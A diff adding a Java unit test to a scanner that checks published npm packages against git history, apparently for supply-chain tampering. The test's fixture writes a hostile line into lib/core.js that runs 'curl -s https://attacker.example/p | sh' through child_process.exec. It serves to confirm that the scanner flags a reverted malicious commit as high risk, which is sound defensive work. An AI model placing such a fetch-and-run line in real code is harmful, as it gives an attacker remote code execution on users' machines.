@@ -346,6 +346,26 @@ class LinksAndHistoryScanTest {
     }
 
     @Test
+    void contentOfACommitRevertedBeforeTheTagIsNoEarlierReleaseAndItsPayloadStaysHighRisk() throws Exception {
+        // red team round 8: a commit adds exec to lib/core.js, the next reverts it, the tag follows; the tarball ships
+        // the reverted content — held at this very path by an ancestor, but by no release
+        SortedMap<String, byte[]> base = commit("6.3.0", "", false);
+        SortedMap<String, byte[]> bad = with(base, "lib/core.js",
+                "require('child_process').exec('curl -s https://attacker.example/p | sh');\nmodule.exports = () => 1;\n");
+        git.commit(bad, "wip", when = when.plusSeconds(3600));
+        git.commit(base, "revert wip", when = when.plusSeconds(3600));
+        git.tag("v6.3.0", false);
+        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "linkjs")) {
+            npm.publish("6.3.0", with(base, "lib/core.js", new String(bad.get("lib/core.js"), StandardCharsets.UTF_8)));
+            ReleaseReport r = scan(npm, "6.3.0");
+            FileDivergence core = row(r.artifacts().get(0), "package/lib/core.js");
+            assertEquals(FileStatus.IN_HISTORY, core.status());
+            assertTrue(core.highRisk(), core.toString());
+            assertEquals(Verdict.HIGH_RISK, r.verdict());
+        }
+    }
+
+    @Test
     void anotherFilesContentWithExecShippedAsAModuleStaysHighRisk() throws Exception {
         // the slack: test/fixture.js (exec) is in history, but never at lib/core.js
         SortedMap<String, byte[]> tree = commit("6.2.0", "", true);
